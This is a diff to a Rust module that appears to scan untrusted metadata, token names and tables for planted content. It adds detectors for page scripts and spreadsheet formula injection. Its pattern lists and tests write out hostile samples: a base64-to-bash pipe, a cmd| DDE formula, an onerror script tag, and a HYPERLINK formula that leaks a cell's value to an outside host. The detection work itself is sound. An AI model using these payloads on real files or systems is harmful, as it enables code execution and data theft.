@@ -1,10 +1,13 @@
 //! Descriptive text that nobody vouches for: values of metadata, names of tensors, entries of vocabularies, prose.
 
+use std::borrow::Cow;
+
 use jingwei_core::Text;
 use jingwei_read::Sighting;
 
 use crate::{
     orders::{self, Reader},
+    path::is_within,
     template::phrases,
     unicode,
 };
@@ -54,10 +57,13 @@ pub fn inspect_note(text: &str, what: Note, key: &str) -> Vec<Sighting> {
     if what == Note::Token && is_trap_address(text) {
         seen.push(planted(text, key, "address", "网址", "an address"));
     }
+    if is_page_script(text) {
+        seen.push(planted(text, key, "script", "网页脚本", "a script of a page"));
+    }
     if runs_command(text) {
         seen.push(planted(text, key, "command", "系统命令", "a system command"));
     }
-    let spaced = if what == Note::Token { text.replace(['Ġ', '▁'], " ") } else { text.to_owned() };
+    let spaced = if what == Note::Token { Cow::Owned(text.replace(['Ġ', '▁'], " ")) } else { Cow::Borrowed(text) };
     let aimed = |text: &str| {
         phrases::words(text) >= SENTENCE && phrases::signs(text).iter().any(|sign| AIMED.contains(&sign.key))
     };
@@ -157,7 +163,7 @@ pub fn is_for_agents(path: &str) -> bool {
         || AGENT_ENDINGS.iter().any(|ending| {
             name.starts_with('.') && name.ends_with(ending) || ending.starts_with('.') && name.ends_with(ending)
         })
-        || AGENT_FOLDERS.iter().any(|folder| path.starts_with(folder) || path.contains(&format!("/{folder}")))
+        || AGENT_FOLDERS.iter().any(|folder| is_within(&path, folder))
 }
 
 /// Orders to a machine in a text for people or for agents, and commands of a shell where agents take them up.
@@ -205,8 +211,54 @@ pub(crate) fn planted(text: &str, key: &str, kind: &str, zh: &str, en: &str) -> 
     sighting.with("key", key).with("text", &start).with_text("kind", Text::new(zh, en))
 }
 
+/// A whole script of a page, which runs where somebody shows the text. Pieces of one are tokens of real vocabularies.
+fn is_page_script(text: &str) -> bool {
+    if !text.contains('<') {
+        return false;
+    }
+    let lower = text.to_ascii_lowercase();
+    ["<script", " onerror=", " onload="].iter().any(|mark| lower.contains(mark))
+        && (lower.contains("</script") || !lower.contains("<script"))
+}
+
+/// Beginnings of cells that a spreadsheet runs or fetches, behind their `=`.
+const FORMULAS: [&str; 12] = [
+    "cmd|",
+    "powershell|",
+    "mshta|",
+    "rundll32|",
+    "msexcel|",
+    "dde(",
+    "webservice(",
+    "importxml(",
+    "importdata(",
+    "importfeed(",
+    "importrange(",
+    "hyperlink(\"http",
+];
+
+/// Cells of a table that a spreadsheet runs, or by which it sends what stands beside them elsewhere.
+#[must_use]
+pub fn inspect_formulas(table: &str) -> Vec<Sighting> {
+    let cells = table.lines().flat_map(|line| line.split([',', ';', '\t']));
+    let formula = |cell: &&str| {
+        let cell = cell.trim_start_matches(['"', '\'', ' ']);
+        let Some(body) = cell.strip_prefix(['=', '+', '-', '@']) else { return false };
+        let lower = body.trim_start_matches(['=', '+', '-', '@']).to_ascii_lowercase().replace("\"\"", "\"");
+        FORMULAS.iter().any(|front| lower.starts_with(front)) || lower.contains("cmd|") && lower.contains('!')
+    };
+    let cell = { cells }.find(formula);
+    cell.map(|cell| planted(cell, "cell", "formula", "电子表格会执行的公式", "a formula that a spreadsheet runs"))
+        .into_iter()
+        .collect()
+}
+
 /// A command that fetches and runs, or opens the machine: what follows is no prose.
 fn runs_command(text: &str) -> bool {
+    // Nearly every name, and each command has one of these.
+    if !text.contains([' ', '/', '-']) {
+        return false;
+    }
     let lower = text.to_ascii_lowercase();
     let fetches = ["curl ", "wget ", "base64 -d", "base64 --decode"].iter().any(|word| lower.contains(word));
     let into_shell = lower.split('|').skip(1).any(|part| {
@@ -296,8 +348,24 @@ mod tests {
                 ("echo MA== | base64 -d | bash", Some("command")),
                 ("a\u{1b}]0;x\u{7}", Some("control")),
                 ("a\u{202e}b", Some("direction")),
+                ("<script>x()</script>", Some("script")),
+                ("<img src=x onerror=y()>", Some("script")),
+                ("A description of scripts, 3 < 4 > 2", None),
             ],
         );
+    }
+
+    #[test]
+    fn formulas_are_found_in_cells() {
+        for (table, count) in [
+            ("", 0),
+            ("a,b\n=1+2,-3\n@name,+49 30 1234", 0),
+            ("a,b\nx,=cmd|'/c calc'!A1", 1),
+            ("a\tb\n\"=HYPERLINK(\"\"http://a.example/?x=\"\"&A1)\"\t1", 1),
+            ("=1+cmd|' /C x'!A0", 1),
+        ] {
+            assert_eq!(inspect_formulas(table).len(), count, "{table}");
+        }
     }
 
     #[test]
